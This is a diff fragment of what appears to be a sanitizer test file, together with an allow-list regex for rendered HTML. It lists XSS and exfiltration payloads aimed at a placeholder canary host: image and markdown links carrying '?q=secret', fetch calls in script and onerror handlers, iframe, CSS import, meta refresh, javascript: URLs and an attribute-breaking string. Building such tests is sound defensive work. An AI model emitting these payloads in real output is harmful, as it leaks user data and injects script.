@@ -13,7 +13,7 @@ const canary = 'https://canary.test/x'
 const payloads = [
   `<img src=${canary}>`, `<img src=x onerror="fetch('${canary}')">`, `![a](${canary}?q=secret)`, `[a](${canary})`, `[a][r]\n\n[r]: ${canary}`, `<a href="${canary}">x</a>`, `<script>fetch('${canary}')</script>`,
   `<iframe src="${canary}">`, `<svg><image href="${canary}"/></svg>`, `<style>@import url(${canary})</style>`, `<link rel=prefetch href=${canary}>`, `<form action=${canary}><input autofocus>`, `<meta http-equiv=refresh content="0;url=${canary}">`,
-  `<video poster=${canary}>`, `<object data=${canary}>`, `\`\`\`html\n<img src=${canary}>\n\`\`\``, `**<img src=${canary}>**`, `1. <img src=${canary}>`, `# <img src=${canary}>`, `&lt;img src=${canary}&gt;`, `javascript:alert(1)`, `[a](javascript:alert(1))`, `" onmouseover="alert(1)`,
+  `<video poster=${canary}>`, `<object data=${canary}>`, `\`\`\`html\n<img src=${canary}>\n\`\`\``, `**<img src=${canary}>**`, `1. <img src=${canary}>`, `# <img src=${canary}>`, `&lt;img src=${canary}&gt;`, 'javascript:alert(1)', '[a](javascript:alert(1))', '" onmouseover="alert(1)',
 ]
 const allowed = /^<\/?(?:div|p|span|strong|em|code|pre|button)(?: (?:class|dir|title|role|aria-level|aria-label)="[^"<>]*")*>$/
 
